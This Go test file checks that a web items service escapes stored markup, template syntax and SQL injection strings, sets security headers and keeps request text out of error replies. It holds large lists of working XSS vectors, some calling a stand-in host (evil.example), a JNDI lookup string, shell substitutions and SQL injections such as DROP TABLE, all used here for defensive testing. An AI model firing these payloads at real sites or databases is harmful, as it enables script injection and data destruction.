package main

import (
	"bytes"
	"encoding/json"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// payloads run something, or bring something in, if a page takes them for
// markup: as content, as an attribute, as a script, as a comment, or when a
// second parser reads what the first one wrote.
func payloads() []string {
	return []string{
		`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<script/x>alert(1)</script>`, `<script>alert(1)//`, `<scr<script>ipt>alert(1)</scr</script>ipt>`,
		`"><script>alert(1)</script>`, `'><script>alert(1)</script>`, `</title><script>alert(1)</script>`, `</textarea><script>alert(1)</script>`, `</style><script>alert(1)</script>`,
		`<img src=x onerror=alert(1)>`, `<img src=x onerror=alert(1)//`, `<IMG """><script>alert(1)</script>">`, `<img/src/onerror=alert(1)>`, "<img src=`x`onerror=alert(1)>", `<img src=javascript:alert(1)>`,
		`" onmouseover="alert(1)`, `' onfocus='alert(1)' autofocus='`, "` onclick=alert(1) `", ` onload=alert(1) `, `x" style="background:url(javascript:alert(1))`,
		`<svg onload=alert(1)>`, `<svg/onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
		`<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>">`, `<svg><style><img src=x onerror=alert(1)></style>`, `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
		`<math><mtext></p><style><img src=x onerror=alert(1)></style>`, `<math><mi xlink:href="javascript:alert(1)">x</mi></math>`, `<math><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
		`<template><script>alert(1)</script></template>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<noembed><img title="</noembed><img src onerror=alert(1)>">`, `<xmp><p title="</xmp><svg/onload=alert(1)>">`,
		`<!--<img src="--><img src=x onerror=alert(1)//">`, `<!--><img src=x onerror=alert(1)>-->`, `--!><img src=x onerror=alert(1)>`, `<![CDATA[><img src=x onerror=alert(1)>]]>`, `<?xml version="1.0"?><x onload=alert(1)>`, `<!DOCTYPE x [<!ENTITY y "z">]>`,
		`javascript:alert(1)`, `JaVaScRiPt:alert(1)`, "java\tscript:alert(1)", `javascript&colon;alert(1)`, `data:text/html,<script>alert(1)</script>`, `vbscript:msgbox(1)`, `<a href="javascript:alert(1)">x</a>`,
		`<iframe src=javascript:alert(1)>`, `<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">`, `<object data="data:text/html,<script>alert(1)</script>">`, `<embed src=//evil.example/x.swf>`, `<base href=//evil.example/>`,
		`<meta http-equiv=refresh content="0;url=//evil.example">`, `<link rel=stylesheet href=//evil.example/x.css>`, `<style>@import'//evil.example/x.css';</style>`, `<form action=//evil.example><input name=x>`, `<button formaction=javascript:alert(1)>x`,
		`<body onload=alert(1)>`, `<details open ontoggle=alert(1)>`, `<video><source onerror=alert(1)>`, `<marquee onstart=alert(1)>x</marquee>`, `<x contenteditable onblur=alert(1)>x`, `<input autofocus onfocus=alert(1)>`,
		`&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;alert(1)&#60;/script&#62;`, `\u003cscript\u003ealert(1)\u003c/script\u003e`, `%3Cscript%3Ealert(1)%3C/script%3E`, "<\u2028script>alert(1)</script>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
		"\u2028alert(1)\u2029", `</script><script>alert(1)</script>`, `'-alert(1)-'`, `";alert(1)//`, `\";alert(1)//`, `${alert(1)}`, "＜script＞alert(1)＜/script＞", "<\x00script>alert(1)</script>", "\ufeff<script>alert(1)</script>",
	}
}

// templates are what template engines would run.
func templates() []string {
	return []string{
		`{{7*7}}`, `${7*7}`, `<%= 7*7 %>`, `#{7*7}`, `{{.}}`, `{{printf "%d" 49}}`, `{{template "home.html" .}}`, `{{range .Items}}x{{end}}`, `{{define "x"}}{{end}}`, `{% print(7*7) %}`,
		`{{constructor.constructor('alert(1)')()}}`, `@(7*7)`, `*{7*7}`, `[[${7*7}]]`, `{7*7}`, `#set($x=7*7)$x`, `{{"`, `{{/*`, `$(id)`, "`id`", `%s%s%n`, `%d`, `${jndi:ldap://evil.example/a}`,
	}
}

// shown gets page that lists items with these texts as names and descriptions,
// the last one first, on shelves that are otherwise empty.
func (c *client) shown(texts []string) (page string) {
	c.t.Helper()
	items, _ := c.get("/items/?limit=100").decode(c.t)["items"].([]any)
	for _, item := range items {
		id, _ := item.(map[string]any)["item_id"].(json.Number)
		if got := c.call(http.MethodDelete, "/test/items/"+id.String(), ""); got.status != http.StatusNoContent {
			c.t.Fatalf("DELETE: %d", got.status)
		}
	}
	for _, text := range texts {
		c.create(`{"price":1,"name":` + quote(text) + `,"description":` + quote(text) + `}`)
	}
	got := c.get("/", "Accept", browser)
	if got.status != http.StatusOK || !strings.HasPrefix(got.header.Get("Content-Type"), "text/html") {
		c.t.Fatalf("the page: %d %s", got.status, got.header.Get("Content-Type"))
	}
	if policy := got.header.Get("Content-Security-Policy"); !strings.HasPrefix(policy, "default-src 'none'; base-uri 'none'; frame-ancestors 'none'; form-action 'self';") {
		c.t.Errorf("the page's policy is %s", policy)
	}
	return got.body
}

var digits = regexp.MustCompile(`[0-9]+`)

// skeleton is what a browser makes of a page, without the text and the numbers.
func skeleton(t *testing.T, page string) (lines []string, texts []string) {
	t.Helper()
	root, err := html.Parse(strings.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	for n := range root.Descendants() {
		switch n.Type {
		case html.TextNode:
			texts = append(texts, n.Data)
		case html.CommentNode:
			lines = append(lines, "<!--"+n.Data+"-->")
		default:
			line := n.Namespace + "<" + n.Data
			for _, a := range n.Attr {
				if a.Key == "nonce" {
					a.Val = "" // Each answer has another one.
				}
				line += " " + a.Namespace + a.Key + "=" + digits.ReplaceAllString(a.Val, "0")
			}
			lines = append(lines, line)
		}
	}
	return lines, texts
}

// batches are twelve at a time, as many as the page shows.
func batches(t *testing.T, texts []string, show func(batch []string)) {
	t.Helper()
	for batch := range slices.Chunk(texts, 12) {
		for len(batch) < 12 {
			batch = append(slices.Clip(batch), "a lamp")
		}
		show(batch)
	}
}

func TestMarkupInAnItemChangesNothingOnThePage(t *testing.T) {
	eachStack(t, func(t *testing.T, s *stack) {
		c := s.client(t)
		harmless, _ := skeleton(t, c.shown(slices.Repeat([]string{"a lamp"}, 12)))
		all := storable(append(payloads(), templates()...))
		if len(all) < 80 {
			t.Fatalf("only %d payloads", len(all))
		}
		batches(t, all, func(batch []string) {
			got, texts := skeleton(t, c.shown(batch))
			if !slices.Equal(got, harmless) {
				t.Errorf("one of %q changes the page:\n%s", batch, strings.Join(got, "\n"))
			}
			for _, text := range batch {
				// A browser reads NUL, which no page may hold, as U+FFFD.
				text = strings.ReplaceAll(text, "\x00", "\ufffd")
				if n := count(texts, text); n < 2 {
					t.Errorf("%q is on the page %d times, want it as name and description", text, n)
				}
			}
		})
	})
}

func count(texts []string, want string) (n int) {
	for _, text := range texts {
		if text == want {
			n++
		}
	}
	return n
}

// The same page by text/template, which does not escape: most payloads change it.
func TestPayloadsWorkWithoutEscaping(t *testing.T) {
	page := unescapedPages(t)
	render := func(name string) (lines []string) {
		var out bytes.Buffer
		if err := page.ExecuteTemplate(&out, "home.html", Home{Items: []shownItem{{ID: 1, Name: name}}}); err != nil {
			t.Fatal(err)
		}
		lines, _ = skeleton(t, out.String())
		return lines
	}
	harmless, working := render("a lamp"), 0
	for _, text := range payloads() {
		if !slices.Equal(render(text), harmless) {
			working++
		}
	}
	if working < 50 {
		t.Errorf("only %d of %d payloads do anything without escaping", working, len(payloads()))
	}
}

// unescaped is what must not stand in JSON as it is: a browser that takes the
// answer for HTML, or a page that has it in a script, would read it.
const unescaped = "<>&\u2028\u2029"

func TestMarkupInJSONIsEscaped(t *testing.T) {
	eachStack(t, func(t *testing.T, s *stack) {
		c := s.client(t)
		for _, text := range storable(append(payloads(), templates()...)) {
			path := c.create(`{"price":1,"name":` + quote(text) + `,"description":` + quote(text) + `}`)
			for _, got := range []reply{
				c.get(path), c.get(path, "Accept", browser), c.post("/create_item/", `{"name":`+quote(text)+`}`),
				c.call(http.MethodPatch, "/test"+path, `{"name":`+quote(text)+`}`),
			} {
				if got.status != http.StatusOK || got.header.Get("Content-Type") != "application/json" || strings.ContainsAny(got.body, unescaped) {
					t.Errorf("%q: %d %s %s", text, got.status, got.header.Get("Content-Type"), got.body)
				}
				if got.header.Get("X-Content-Type-Options") != "nosniff" || !strings.HasPrefix(got.header.Get("Content-Security-Policy"), "default-src 'none'") {
					t.Errorf("%q: a browser might read the answer as a page: %v", text, got.header)
				}
			}
			if item := c.get(path).decode(t); item["name"] != text || item["description"] != text {
				t.Errorf("%q came back as %q and %q", text, item["name"], item["description"])
			}
			if len([]rune(text)) <= 50 {
				if got := c.get("/items/1?q=" + url.QueryEscape(text)); got.status != http.StatusOK || strings.ContainsAny(got.body, unescaped) || got.decode(t)["q"] != text {
					t.Errorf("q=%q: %d %s", text, got.status, got.body)
				}
			}
		}
		if got := c.get("/items/?limit=100"); strings.ContainsAny(got.body, unescaped) {
			t.Error("the list holds markup as it is")
		}
	})
}

// What is wrong with a request is told without the request: a password in the
// wrong field ends in nobody's log, and a link to an error shows no markup.
func TestErrorsDoNotEchoTheRequest(t *testing.T) {
	eachStack(t, func(t *testing.T, s *stack) {
		c := s.client(t)
		for i, text := range append(payloads(), templates()...) {
			mark := "canary" + strconv.Itoa(i)
			value, name := quote(mark+text+mark), quote(text)
			escaped := url.PathEscape(mark + text)
			for what, got := range map[string]reply{
				"a price":        c.post("/test/items/", `{"name":"a","price":`+value+`}`),
				"a long name":    c.post("/test/items/", `{"name":`+quote(strings.Repeat(mark+text, 50))+`,"price":1}`),
				"an unknown one": c.post("/test/items/", `{"name":"a","price":1,`+name+`:`+value+`}`),
				"no JSON":        c.post("/test/items/", mark+text),
				"a draft":        c.post("/test/items/", `{"name":"a","price":1,"draft":`+value+`}`),
				"an id":          c.get("/items/" + escaped),
				"a path":         c.get("/" + escaped),
				"a limit":        c.get("/items/?limit=" + url.QueryEscape(mark+text)),
				"a long q":       c.get("/items/1?q=" + url.QueryEscape(strings.Repeat(mark+text, 20))),
				"a media type":   c.post("/test/items/", "{}", "Content-Type", "text/"+mark),
				"a browser":      c.get("/"+escaped, "Accept", browser),
			} {
				wantProblem(t, what+" "+text, got, 400, 404, 415, 422)
				if strings.Contains(got.body, mark) || strings.ContainsAny(got.body, unescaped) {
					t.Errorf("%s %q: the answer echoes: %s", what, text, got.body)
				}
			}
		}
	})
}

// The strings end in the database as what they are, and nowhere else.
func TestSQLInRequestsIsText(t *testing.T) {
	injections := []string{
		`1 OR 1=1`, `1; DROP TABLE items; --`, `1' OR '1'='1`, `1" OR "1"="1`, `' UNION SELECT sqlite_version(),2,3,4,5,6 --`, `') OR ('1'='1`, `1)) UNION ALL SELECT NULL--`, `admin'--`, `1/**/OR/**/1`, `0x31`, `1e0`,
		`CASE WHEN 1=1 THEN 1 ELSE randomblob(1e9) END`, `(SELECT count(*) FROM sqlite_master)`, `1 AND load_extension('x')`, `'; ATTACH DATABASE '/tmp/x' AS y; --`, `1 LIMIT 1 OFFSET 0; --`, `?`, `?1`, `:id`, `$1`, `@x`, "\x00'", `\'`, `%27`, `％27`, `ʼ OR 1=1`,
		`%`, `_`, `*`, `[a-z]*`, strings.Repeat("%", 50),
	}
	eachStack(t, func(t *testing.T, s *stack) {
		c := s.client(t)
		list := c.get("/items/?limit=100").body
		for _, text := range storable(injections[:]) {
			query := url.QueryEscape(text)
			for _, target := range []string{"/items/?limit=" + query, "/items/?offset=" + query, "/items/" + url.PathEscape(text), "/read_item/" + url.PathEscape(text)} {
				got := c.get(target)
				wantProblem(t, target, got, 400, 404, 422)
				for _, word := range []string{"sql", "SELECT", "syntax", "column", "near", "token"} {
					if strings.Contains(got.body, word) {
						t.Errorf("%s: the answer says %q: %s", target, word, got.body)
					}
				}
			}
			if got := c.get("/items/1?q=" + query); got.status != http.StatusOK || got.decode(t)["q"] != text {
				t.Errorf("q=%s: %d %s, want it back as it is", text, got.status, got.body)
			}
			for _, target := range []string{"/items/?sort=" + query, "/items/?order=" + query, "/items/?q=" + query, "/items/?" + query + "=1"} {
				if got := c.get(target + "&limit=100"); got.status == http.StatusOK && got.body != list || got.status != http.StatusOK && got.status != http.StatusBadRequest && got.status != http.StatusUnprocessableEntity {
					t.Errorf("%s: %d %.100s, want the list as it was, or a refusal", target, got.status, got.body)
				}
			}
			for _, header := range [][2]string{{"X-API-Key", ""}, {"Authorization", "Bearer "}, {"Cookie", "__Host-session="}} {
				credential := header[1] + strings.NewReplacer("\x00", "", "％", "%", "ʼ", "'").Replace(text)
				wantProblem(t, header[0]+" "+credential, c.get("/items/1", header[0], credential), http.StatusUnauthorized, http.StatusBadRequest)
			}
			path := c.create(`{"price":1,"name":` + quote(text) + `,"description":` + quote(text) + `}`)
			if item := c.get(path).decode(t); item["name"] != text || item["description"] != text {
				t.Errorf("%q came back as %q and %q", text, item["name"], item["description"])
			}
			if got := c.call(http.MethodPut, "/test"+path, `{"price":2,"description":null,"tax":null,"name":`+quote(text)+`}`); got.status != http.StatusOK || got.decode(t)["name"] != text {
				t.Errorf("PUT %q: %d %s", text, got.status, got.body)
			}
			if got := c.call(http.MethodDelete, "/test"+path, ""); got.status != http.StatusNoContent {
				t.Errorf("DELETE: %d", got.status)
			}
		}
		if got := c.get("/items/?limit=100").body; got != list {
			t.Errorf("the list is %s, want %s", got, list)
		}
	})
}
